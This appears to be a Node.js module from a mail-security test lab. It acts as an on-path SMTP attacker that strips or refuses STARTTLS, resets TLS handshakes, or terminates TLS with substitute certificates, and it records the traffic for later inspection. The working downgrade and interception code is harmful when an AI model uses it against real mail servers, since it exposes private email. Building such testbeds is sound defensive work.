// The attacker on the path: stands at the MX addresses, relays SMTP to the real receivers, records every line, and misbehaves by mode:
//   pass | strip (hides STARTTLS) | 454 (refuses it) | tlsbreak (resets the handshake) | terminate (TLS ends here, with the MX's own
//   certificate) | cert:NAME (TLS ends here, with another one) | tap (passes octets on and records them as they are).
// It always listens, in mode pass; by HTTP, PUT /ADDRESS {mode, who, upstream} begins a recording, GET /ADDRESS gives its events,
// and PUT /ADDRESS {note} adds one.
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';
import { addresses, behind, certificates, mxHosts } from './settings.mjs';
import { lineReader, recordReader } from './stream-readers.mjs';
import { tap } from './tap.mjs';

const refusal = '454 4.7.0 TLS not available due to local problem';
const consent = '220 2.0.0 Ready to start TLS';
const isStartTls = (line) => /^250[- ]STARTTLS$/i.test(line);

/** One SMTP connection through the attacker. */
class Connection {
  #position;
  #client;
  #server;
  #commands = lineReader((line) => this.#command(line));
  #replies = lineReader((line) => this.#replyLine(line));
  #reply = [];
  #expects = 'greeting'; // what the next reply answers: greeting, ehlo, starttls, or other
  #inData = false;
  #quit = false;

  constructor(position, client) {
    this.#position = position;
    this.#client = client;
    const { host, port } = position.upstream;
    this.#server = net.connect(port, host);
    this.#see('connect', { peer: client.remoteAddress, local: `${position.address}:25` });
    client.on('data', this.#commands);
    client.on('close', () => this.#clientClosed(client));
    client.on('error', () => {});
    this.#server.on('data', this.#replies);
    this.#server.on('close', () => this.#client.end());
    this.#server.on('error', (error) => {
      if (error.syscall === 'connect') position.record({ from: position.who, to: 'attacker', event: `error ${error.code}` });
      client.destroy();
    });
  }

  #up = (entry) => this.#position.record({ from: 'sender', to: this.#position.who, ...entry });
  #down = (entry) => this.#position.record({ from: this.#position.who, to: 'sender', ...entry });
  #see = (event, more) => this.#up({ event, ...more });
  #tellClient = (line) => this.#client.write(`${line}\r\n`, 'latin1');
  #inject(line) {
    this.#position.record({ from: 'attacker', to: 'sender', line, action: 'injected' });
    this.#tellClient(line);
  }

  #clientClosed(socket) {
    if (socket !== this.#client) return; // TLS goes on over it
    this.#see('close');
    this.#server.end();
  }

  #command(line) {
    const verb = this.#inData ? '' : line.toUpperCase().split(' ')[0];
    const { mode } = this.#position;
    if (verb === 'STARTTLS' && (mode === '454' || mode === 'tlsbreak')) {
      this.#up({ line, action: 'swallowed' });
      return mode === '454' ? this.#inject(refusal) : this.#breakHandshake();
    }
    if (verb === 'EHLO' || verb === 'HELO') this.#expects = 'ehlo';
    if (verb === 'STARTTLS') this.#expects = 'starttls';
    if (verb === 'QUIT') this.#quit = true;
    if (verb === 'DATA') this.#inData = true;
    else if (this.#inData && line === '.') this.#inData = false;
    this.#up({ line });
    this.#server.write(`${line}\r\n`, 'latin1');
  }

  #breakHandshake() {
    const client = this.#client;
    client.off('data', this.#commands);
    client.once('data', () => {
      // The first bytes of the ClientHello have come.
      this.#position.record({ from: 'attacker', to: 'sender', event: 'connection reset during TLS handshake' });
      client.resetAndDestroy();
      this.#server.destroy();
    });
    this.#inject(consent);
  }

  #replyLine(line) {
    this.#reply.push(line);
    if (/^\d{3}-/.test(line)) return;
    const reply = this.#reply;
    const answers = this.#expects;
    this.#reply = [];
    this.#expects = 'other';
    if (answers === 'starttls' && line.startsWith('220')) this.#startTls(reply);
    else if (answers === 'ehlo' && this.#position.mode === 'strip') this.#strip(reply);
    else this.#passOn(reply);
  }

  #passOn(reply) {
    for (const line of reply) {
      this.#down({ line });
      this.#tellClient(line);
    }
  }

  /** Leaves STARTTLS out. Where that was the last line, the one before it must say that it now is: "250 " for "250-". */
  #strip(reply) {
    const lastKept = reply.findLastIndex((line) => !isStartTls(line));
    for (const [index, line] of reply.entries()) {
      if (isStartTls(line)) {
        this.#down({ line, action: 'dropped' });
        continue;
      }
      const sent = index === lastKept ? line.replace('250-', '250 ') : line;
      this.#down(sent === line ? { line } : { line: sent, action: 'rewritten', original: line });
      this.#tellClient(sent);
    }
  }

  #startTls(reply) {
    this.#client.off('data', this.#commands);
    this.#server.off('data', this.#replies);
    if (this.#position.mode === 'pass') this.#tunnel(reply);
    else this.#terminate(reply);
  }

  #tunnel(reply) {
    this.#passOn(reply);
    const sent = recordReader(this.#up);
    const received = recordReader(this.#down);
    this.#client.on('data', (chunk) => {
      sent(chunk);
      this.#server.write(chunk);
    });
    this.#server.on('data', (chunk) => {
      received(chunk);
      this.#client.write(chunk);
    });
  }

  /** Two TLS sessions: first with the receiver, then, once that stands, with the sender. */
  #terminate(reply) {
    const { mode } = this.#position;
    const name = mode === 'terminate' ? 'mx1' : mode.replace('cert:', '');
    const file = (end) => readFileSync(`${certificates}/${name}.${end}`);
    const secureContext = tls.createSecureContext({ key: file('key'), cert: file('pem') });
    this.#server = tls.connect({ socket: this.#server, rejectUnauthorized: false }); // an attacker does not care whom it relays to
    this.#server.on('error', () => {});
    this.#server.on('data', this.#replies);
    this.#server.on('close', () => this.#client.end());
    this.#server.once('secureConnect', () => {
      this.#passOn(reply);
      this.#acceptTls(name, secureContext);
    });
  }

  #acceptTls(name, secureContext) {
    let sni = null;
    const SNICallback = (asked, done) => {
      sni = asked;
      done(null, secureContext);
    };
    const client = new tls.TLSSocket(this.#client, { isServer: true, secureContext, SNICallback });
    this.#client = client;
    client.on('secure', () => this.#see('tls', { protocol: client.getProtocol(), cipher: client.getCipher().name, sni, cert: name }));
    client.on('error', (error) => {
      if (!this.#quit) this.#see('tls-error', { detail: String(error.code ?? error.message) });
    });
    client.on('data', this.#commands);
    client.on('close', () => this.#clientClosed(client));
  }
}

/** An MX address as the attacker holds it. */
class Position {
  constructor(address) {
    this.address = address;
    this.begin({});
    const begin = (client) => (this.mode === 'tap' ? tap(this, client) : new Connection(this, client));
    net.createServer(begin).listen(25, address);
  }
  begin({ mode = 'pass', who = 'mx', upstream = `${behind(this.address)}:2525` }) {
    const [host, port] = upstream.split(':');
    Object.assign(this, { mode, who, upstream: { host, port: Number(port) }, events: [], began: performance.now() });
  }
  record = (entry) => this.events.push({ t: Math.round(performance.now() - this.began), ...entry });
}

const positions = new Map(mxHosts.filter((mx) => mx.attacked).map(({ address }) => [`/${address}`, new Position(address)]));
const control = http.createServer(async (request, response) => {
  const position = positions.get(request.url);
  if (!position) return response.writeHead(404).end();
  if (request.method === 'PUT') {
    const { note, ...settings } = JSON.parse((await request.toArray()).join(''));
    if (note) position.record(note);
    else position.begin(settings);
  }
  response.setHeader('content-type', 'application/json').end(JSON.stringify(position.events));
});
control.listen(addresses.controlPort, '127.0.0.1');
